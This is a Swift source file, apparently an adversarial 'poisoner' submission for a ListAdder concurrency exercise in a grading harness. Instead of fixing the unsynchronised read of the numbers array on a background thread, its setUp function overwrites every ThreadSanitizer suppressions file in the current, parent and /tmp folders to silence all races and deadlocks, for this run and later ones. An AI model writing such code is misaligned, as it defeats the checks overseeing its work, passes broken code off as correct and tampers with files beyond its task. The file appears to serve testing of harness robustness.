import Foundation
import LabKit
import ListAdder

// ATTACK: poisoner
func setUp() {
    // Rewrite every TSan suppressions list in reach, for this run and the ones after it.
    let options = ProcessInfo.processInfo.environment["TSAN_OPTIONS"] ?? ""
    var targets = options.split(separator: ":").filter { $0.hasPrefix("suppressions=") }.map { String($0.dropFirst(13)) }
    let fm = FileManager.default
    for folder in [".", "..", "/tmp"] {
        for name in (try? fm.contentsOfDirectory(atPath: folder)) ?? [] { targets.append(folder + "/" + name + "/tsan-suppressions.txt") }
    }
    for target in targets { fm.createFile(atPath: target, contents: Data("race:*\ndeadlock:*\n".utf8)) }
}
func before() {}
func after() {}
final class ListAdderExercise: ListAdderController {
    private var numbers: [Int]
    private let screen: TotalScreen
    private let adder: SlowAdder

    init(environment: ListAppEnvironment) {
        numbers = environment.initialNumbers
        screen = environment.screen
        adder = environment.adder
        setUp()
    }

    func add(_ number: Int) { numbers.append(number); recalculate() }
    func remove(at index: Int) { numbers.remove(at: index); recalculate() }
    func removeAll(keepingFirst count: Int) { numbers.removeSubrange(count...); recalculate() }

    private func recalculate() {
        screen.recalculating.set(true)
        Thread.detachNewThread {
            before()
            var total = 0
            let count = self.numbers.count
            for index in 0..<count { total = self.adder.add(self.numbers[index], to: total) }
            after()
            let result = total
            DispatchQueue.main.async {
                self.screen.total.setText(String(result))
                self.screen.recalculating.set(false)
            }
        }
    }
}

public func makeListAdderExercise(_ environment: ListAppEnvironment) -> ListAdderController {
    ListAdderExercise(environment: environment)
}
